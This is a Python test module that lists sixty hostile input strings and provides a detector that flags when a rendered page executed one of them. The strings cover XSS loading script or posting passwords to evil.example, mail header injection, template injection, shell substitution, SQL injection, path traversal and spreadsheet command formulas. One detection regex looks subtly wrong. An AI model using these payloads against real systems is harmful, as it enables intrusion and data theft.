"""What nobody means well with: sixty strings, and how one sees that a page took one of them for more than text."""

import re
from html.parser import HTMLParser

EVIL = "evil.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "</textarea></select><script>alert(1)</script>",
    "<SCRIPT/SRC='//evil.example/a'></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<a href=javascript:alert(1)>press</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x.example",
    "data:text/html,<script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onfocus=alert(1) `",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
)
TEMPLATES = (
    "{{ 1337*1337 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}{# #}",
    "{{#with 'x'}}{{constructor}}{{/with}}",
    "${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "%(x)s %(name)d %s %n %% {0} {x!r} {x.__class__}",
    "$HOME `id` $(id); | id & id",
)
LINES = (
    "Ann\r\nBcc: all@evil.example",
    "Ann\r\n\r\n<script>alert(1)</script>",
    "Ann\nSet-Cookie: session=evil",
    "Ann%0d%0aLocation:%20//evil.example",
    "Ann\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL\nATTENDEE:mailto:all@evil.example",
    'Ann;CN="x":mailto:all@evil.example,\\n',
    "=?utf-8?q?=0D=0ABcc=3A_all=40evil.example?=",
)
SIGNS = (
    "nul \x00 and bell \x07 and escape \x1b[31m",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe \N{RIGHT-TO-LEFT ISOLATE}مرحبا \N{LEFT-TO-RIGHT EMBEDDING}abc",
    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH NON-JOINER}\N{WORD JOINER}\N{SOFT HYPHEN}\N{ZERO WIDTH NO-BREAK SPACE}",
    "Z" + "\u0351\u0327\u0309\u0333" * 8 + "a" + "\u0489\u035e" * 8 + "lgo",
    "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽🧑🏿‍🦽‍➡️",
    "\N{ZERO WIDTH NO-BREAK SPACE}BOM, line\u2028and paragraph\u2029ends",
    "\\ud800 \\udfff &#xD800; %ED%A0%80",
    "‘’“”«»‹›„‚`´'\"\\",
    "مرحبا بالعالم שלום 日本語 ｆｕｌｌ Ｗｉｄｔｈ ΐΰ ﬁ ß İı",
    "Robert'); DROP TABLE customers;-- ",
    "' OR 1=1 UNION SELECT password_hash FROM accounts --",
    "../../../../etc/passwd%00.png",
    "..\\..\\windows\\win.ini C:\\con\\nul",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A1 +1-2 -3",
    "Wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
    "x" * 5000,
)
HOSTILE = (*SCRIPTS, *TEMPLATES, *LINES, *SIGNS)

_MADE_IN_A_TEMPLATE = re.compile(r"1787569|__globals__': |0123456789?8")
_TO_SOMEWHERE = re.compile(r"^\s*(?:javascript|data:text|vbscript)|^(?:https?:)?//evil\.", re.IGNORECASE)
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "srcset", "xlink:href", "hx-get", "hx-post", "content"})
_NEVER_OURS = frozenset({"base", "object", "embed", "style", "animate"})


class _Intruders(HTMLParser):
    """Finds what no template of ours writes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        stated = {name for name in given if name.startswith("on") or (name in _ADDRESSES and _leads_away(given[name]))}
        is_inline = tag == "script" and "src" not in given and given.get("type") != "application/ld+json"
        # Letters are previewed in a frame of ours that runs nothing.
        is_frame = tag == "iframe" and ("sandbox" not in given or "srcdoc" in given)
        if stated or is_inline or is_frame or tag in _NEVER_OURS:
            self.found.append(self.get_starttag_text() or tag)


def _leads_away(value: str | None) -> bool:
    return bool(_TO_SOMEWHERE.search(value or ""))


def intruders(page: str) -> list[str]:
    """Return what stands in a page as markup, or was worked out by a template, though somebody only wrote it down."""
    reader = _Intruders()
    reader.feed(page)
    return reader.found + _MADE_IN_A_TEMPLATE.findall(page)
